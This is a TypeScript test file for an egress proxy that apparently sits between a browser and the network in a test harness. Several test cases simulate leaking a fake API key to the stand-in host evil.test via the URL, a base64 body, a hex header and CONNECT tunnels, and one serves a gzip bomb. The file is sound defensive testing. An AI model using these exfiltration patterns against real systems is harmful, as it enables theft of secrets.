import { once } from 'node:events';
import { createServer, request } from 'node:http';
import { type AddressInfo, connect, type Socket } from 'node:net';
import { connect as connectByTls } from 'node:tls';
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { browserCertificate } from '../../../harness/checkout/way-out/browser-certificate.ts';
import { openWayOut, type WayOut } from '../../../harness/checkout/way-out/way-out.ts';

const secret = 'api_test_4f1c7a90e2b85d36';
const ours = 'http://127.0.0.1:1';
const server = createServer((incoming, response) => {
  if (incoming.url === '/long') response.end(Buffer.alloc(70_000_000));
  else if (incoming.url === '/bomb')
    response.setHeader('content-encoding', 'gzip').end(gzipSync(Buffer.alloc(30_000_000)));
  else incoming.pipe(response);
});
server.on('upgrade', (_incoming, socket: Socket) => {
  socket.write('HTTP/1.1 101 Switching Protocols\r\nupgrade: websocket\r\nconnection: upgrade\r\n\r\nhello');
});
let host = '';
beforeAll(async () => {
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  host = `127.0.0.1:${(server.address() as AddressInfo).port}`;
});
afterAll(() => {
  server.closeAllConnections();
  server.close();
});

/** Opens the way out for what is asked by it. */
async function through(ask: (way: WayOut) => Promise<unknown>): Promise<WayOut> {
  const way = await openWayOut(
    { scriptUrl: `http://${host}/app.js`, allowHosts: [] },
    { ours, way: {}, secrets: [{ where: 'legacy.api_key', value: secret }] },
    browserCertificate(),
  );
  try {
    await ask(way);
  } finally {
    await way.close();
  }
  return way;
}

/** Asks a proxy in HTTP; rejects where it only closes. */
function asked({ url }: WayOut, address: string, body = '', headers: object = {}): Promise<string> {
  const { hostname, port } = new URL(url);
  const sent = request({ host: hostname, port, path: address, method: 'POST', headers: { ...headers } });
  return new Promise((resolve, reject) => {
    sent.on('error', reject).on('response', (reply) => {
      let text = '';
      reply
        .on('data', (chunk) => (text += String(chunk)))
        .on('end', () => resolve(text))
        .on('error', reject);
    });
    sent.end(body);
  });
}

/** Opens a tunnel, speaks in it once, and gives what comes. */
async function tunnelled({ url }: WayOut, to: string, text: string, isTls = false): Promise<string> {
  const { hostname, port } = new URL(url);
  const socket = connect(Number(port), hostname);
  socket.write(`CONNECT ${to} HTTP/1.1\r\nhost: ${to}\r\n\r\n`);
  await once(socket, 'data');
  const inner = isTls ? connectByTls({ socket, rejectUnauthorized: false }) : socket;
  let came = '';
  inner.on('data', (chunk) => (came += String(chunk))).on('error', () => undefined);
  inner.write(text);
  await Promise.race([once(inner, 'close'), once(inner, 'data')]);
  inner.destroy();
  return came;
}

const post = (path: string, body: string, to = 'evil.test') =>
  `POST ${path} HTTP/1.1\r\nhost: ${to}\r\ncontent-length: ${body.length}\r\n\r\n${body}`;

describe('the way out of a browser', () => {
  test('passes on what is for the target, and keeps it with the answer', async () => {
    const way = await through((one) =>
      asked(one, `http://${host}/a`, 'hello', { authorization: 'Bearer k' }),
    );
    expect(way.exchanges).toMatchObject([
      {
        method: 'POST',
        url: `http://${host}/a`,
        authorization: 'Bearer k',
        body: 'hello',
        reply: { http: 200, body: 'hello' },
      },
    ]);
    expect(way.sent()).toBe(1);
    expect([...way.refused]).toEqual([]);
  });

  test('passes on a request in a tunnel, and leads a WebSocket through', async () => {
    const upgrade = `GET /s HTTP/1.1\r\nhost: ${host}\r\nupgrade: websocket\r\nconnection: upgrade\r\n\r\n`;
    await through(async (one) => {
      expect(await tunnelled(one, host, post('/b', 'inside', host))).toMatch(/^HTTP\/1.1 200 [^]*inside/);
      expect(await tunnelled(one, host, upgrade)).toMatch(/^HTTP\/1.1 101 [^]*hello$/);
    });
  });

  test.each<[string, (way: WayOut) => Promise<unknown>]>([
    ['an address', (way) => asked(way, `http://evil.test/?${secret}`)],
    ['a body', (way) => asked(way, 'http://evil.test/', `x=${Buffer.from(secret).toString('base64')}`)],
    [
      'a header',
      (way) => asked(way, 'http://evil.test/', '', { 'x-a': Buffer.from(secret).toString('hex') }),
    ],
    ['a tunnel', (way) => tunnelled(way, 'evil.test:80', post('/', secret))],
    ['a tunnel with TLS', (way) => tunnelled(way, 'evil.test:443', post('/', secret), true)],
    ['a tunnel with something else than HTTP', (way) => tunnelled(way, 'evil.test:80', `STUN ${secret}`)],
  ])('answers nothing in the place of another host, and finds a secret in %s', async (_where, ask) => {
    const way = await through((one) => ask(one).catch((error: unknown) => error));
    expect(way.leaks).toEqual([{ secret: 'legacy.api_key', host: 'evil.test' }]);
    expect([...way.refused]).toEqual(['evil.test']);
    expect(way.exchanges).toEqual([]);
  });

  test.each([['/long'], ['/bomb']])('ends a reply that has no end: %s', async (path) => {
    const way = await through((one) =>
      expect(asked(one, `http://${host}${path}`)).rejects.toThrow(/aborted|hang up/),
    );
    expect(way.overfull.aborted).toBe(true);
  });

  test('does not count what a browser sends for itself among what the pages have sent, and refuses it', async () => {
    const own = { 'sec-fetch-site': 'none' };
    const way = await through((one) =>
      expect(asked(one, 'http://update.test/', '', own)).rejects.toThrow('hang up'),
    );
    expect([way.sent(), way.refused.size]).toEqual([0, 0]);
  });
});
